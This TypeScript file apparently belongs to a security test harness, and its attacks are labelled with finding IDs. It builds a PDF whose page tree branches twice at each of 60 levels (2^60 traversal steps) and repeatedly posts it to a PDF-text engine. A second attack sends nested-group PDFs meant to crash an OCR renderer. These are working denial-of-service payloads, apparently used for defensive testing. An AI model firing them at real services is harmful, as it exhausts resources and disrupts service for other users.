import { nestedGroups } from '../../house/broken-documents.ts';
import { ocrBody } from '../../house/ocr-body.ts';
import type { Attack } from '../attack.ts';
import { persist } from '../persist.ts';
import { post } from './post.ts';

/** A page tree of sixty levels, each of which names the next one twice: a reader that walks it takes 2^60 steps. */
function branchingPdf(levels = 60): Buffer {
  const objects = ['1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'];
  for (let n = 2; n < levels + 2; n++) {
    objects.push(`${n} 0 obj\n<< /Type /Pages /Count 1 /Kids [${n + 1} 0 R ${n + 1} 0 R] >>\nendobj\n`);
  }
  objects.push(`${levels + 2} 0 obj\n<< /Type /Pages /Count 0 /Kids [] >>\nendobj\n`);
  let file = '%PDF-1.4\n';
  const offsets = objects.map((object) => {
    const at = file.length;
    file += object;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  return Buffer.from(
    `${file}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`,
  );
}

export const branchingPdfs: Attack = {
  name: 'PDFs whose page tree has no end',
  finding: 'S4',
  run: ({ penniless }, signal) => {
    const input = { type: 'base64', data_base64: branchingPdf().toString('base64') };
    return persist(signal, { width: 8, pauseMs: 100 }, () => post(penniless, { engine: 'pdf-text', input }, signal));
  },
};

/** Small files that multiply as they are drawn, until what draws them breaks off. */
export const breakingPdfs: Attack = {
  name: 'PDFs that break what draws them',
  finding: 'B6',
  run: ({ funded }, signal) => {
    const body = ocrBody('instant', nestedGroups(), { dpi: 300 });
    return persist(signal, { width: 2, pauseMs: 20 }, () => post(funded, body, signal));
  },
};
